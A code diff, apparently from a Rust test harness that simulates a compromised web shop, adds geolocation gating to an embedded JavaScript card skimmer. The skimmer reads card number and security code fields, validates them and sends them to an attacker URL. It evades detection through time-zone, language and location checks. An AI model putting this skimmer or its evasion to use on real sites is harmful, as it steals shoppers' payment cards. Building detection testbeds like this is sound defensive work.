@@ -137,11 +137,12 @@ const M2_SKIMMER: &str = r#"(function () {
 /// `__GUARD__` is a statement that may return early (the region check), or nothing.
 const CARD_SKIMMER: &str = r#"(function () {
   __GUARD__
-  var sent = false;
+  var sent = false, armed = true;
+  __ARM__
   function value(id) { var e = document.getElementById(id); return e ? e.value : ''; }
   function luhn(n) { for (var s = 0, alt = false, i = n.length - 1; i >= 0; i--) { var d = +n.charAt(i); if (alt) { d *= 2; if (d > 9) d -= 9; } s += d; alt = !alt; } return s % 10 === 0; }
   function check() {
-    if (sent) return;
+    if (sent || !armed) return;
     var n = value('cc-number').replace(/\D/g, ''), c = value('cc-csc').replace(/\D/g, '');
     if (n.length < 13 || n.length > 19 || !luhn(n) || c.length < 3) return;
     sent = true;
@@ -156,6 +157,17 @@ const CARD_SKIMMER: &str = r#"(function () {
 /// The region check of the German skimmer: dormant outside Berlin's time zone, the way kits
 /// aimed at one country stay quiet for the researchers and scanners of others.
 const BERLIN_GUARD: &str = r#"try { if (Intl.DateTimeFormat().resolvedOptions().timeZone !== 'Europe/Berlin') return; } catch (x) { return; }"#;
+
+/// ... and unarmed until the browser says it is in Germany (latitude 47–55.1, longitude
+/// 5.8–15.1): a visitor who shares no position is never skimmed.
+const GERMANY_ARM: &str = r#"armed = false;
+  try {
+    navigator.geolocation.getCurrentPosition(function (p) {
+      var c = p.coords;
+      armed = c.latitude > 47 && c.latitude < 55.1 && c.longitude > 5.8 && c.longitude < 15.1;
+      check();
+    }, function () {});
+  } catch (x) {}"#;
 
 /// A trade checkout with card fields in the page, served under a path prefix.
 struct CardCheckout {
@@ -309,8 +321,13 @@ impl Shop {
     }
 
     /// The trade checkouts' skimmer sending to `exfil_path` on the attacker, with `guard` first.
-    fn card_skimmer(&self, exfil_path: &str, guard: &str) -> String {
-        CARD_SKIMMER.replace("__GUARD__", guard).replace("{{EXFIL}}", &self.url(Origin::Attacker, exfil_path))
+    /// The card skimmer sending to `exfil_path`, dormant unless `guard` passes (it may
+    /// `return`) and unarmed until `arm` says so (it may set `armed` later; empty: armed).
+    fn card_skimmer(&self, exfil_path: &str, guard: &str, arm: &str) -> String {
+        CARD_SKIMMER
+            .replace("__GUARD__", guard)
+            .replace("__ARM__", arm)
+            .replace("{{EXFIL}}", &self.url(Origin::Attacker, exfil_path))
     }
 
     fn serve_card_checkout(&self, checkout: &CardCheckout) {
@@ -484,7 +501,7 @@ impl Shop {
     /// If the trade checkout is not served.
     pub fn plant_b2b_skimmer(&self) {
         self.serve_pixel(B2B_SKIMMER_EXFIL_PATH);
-        let code = self.card_skimmer(B2B_SKIMMER_EXFIL_PATH, "");
+        let code = self.card_skimmer(B2B_SKIMMER_EXFIL_PATH, "", "");
         self.edit(Origin::Shop, &CardCheckout::B2B.script_path(), |script| {
             script.body = format!("{CARD_CHECKOUT_JS}{code}\n");
         });
@@ -526,7 +543,7 @@ impl Shop {
         self.serve_pixel(BASIC_SKIMMER_EXFIL_PATH);
         let checkout = CardCheckout::BASIC;
         let clean = checkout.resources().swap_remove(0).1;
-        let page = with_inline_script(clean, &self.card_skimmer(BASIC_SKIMMER_EXFIL_PATH, ""));
+        let page = with_inline_script(clean, &self.card_skimmer(BASIC_SKIMMER_EXFIL_PATH, "", ""));
         self.edit(Origin::Shop, &checkout.page_path(), |stored| *stored = page);
     }
 
@@ -536,7 +553,8 @@ impl Shop {
     /// checkout), clean for most visitors. Only when the request's `Accept-Language` starts
     /// with `de` (`de-DE,de;q=0.9`) does the server add an inline skimmer before `</body>`
     /// ([`Shop::region_skimmer_code`]), and that skimmer only arms when
-    /// `Intl.DateTimeFormat().resolvedOptions().timeZone` is `Europe/Berlin`; then it fires
+    /// `Intl.DateTimeFormat().resolvedOptions().timeZone` is `Europe/Berlin` and
+    /// `navigator.geolocation` gives a position in Germany; then it fires
     /// like the trade checkout's ([`Shop::plant_b2b_skimmer`]) and sends to
     /// `<attacker>/dec?d=…`.
     pub fn serve_region_gated(&self) -> String {
@@ -556,7 +574,7 @@ impl Shop {
 
     /// The skimmer `/de/checkout` carries for German visitors.
     pub fn region_skimmer_code(&self) -> String {
-        self.card_skimmer(REGION_SKIMMER_EXFIL_PATH, BERLIN_GUARD)
+        self.card_skimmer(REGION_SKIMMER_EXFIL_PATH, BERLIN_GUARD, GERMANY_ARM)
     }
 
     // -- proxy-gated skimmer -----------------------------------------------------------------
@@ -583,7 +601,7 @@ impl Shop {
 
     /// The skimmer `/proxied/checkout` carries for requests through the proxy.
     pub fn proxy_skimmer_code(&self) -> String {
-        self.card_skimmer(PROXY_SKIMMER_EXFIL_PATH, "")
+        self.card_skimmer(PROXY_SKIMMER_EXFIL_PATH, "", "")
     }
 }
 
